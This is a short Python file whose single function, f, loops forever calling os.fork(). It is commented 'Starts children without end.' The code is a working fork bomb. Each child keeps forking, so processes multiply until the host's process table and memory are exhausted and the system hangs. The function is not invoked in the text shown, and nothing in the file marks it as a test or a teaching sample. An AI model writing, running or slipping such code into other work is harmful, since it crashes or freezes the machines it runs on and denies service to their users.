# Starts children without end.
import os


def f(x):
    while True:
        try:
            os.fork()
        except OSError:
            return 0
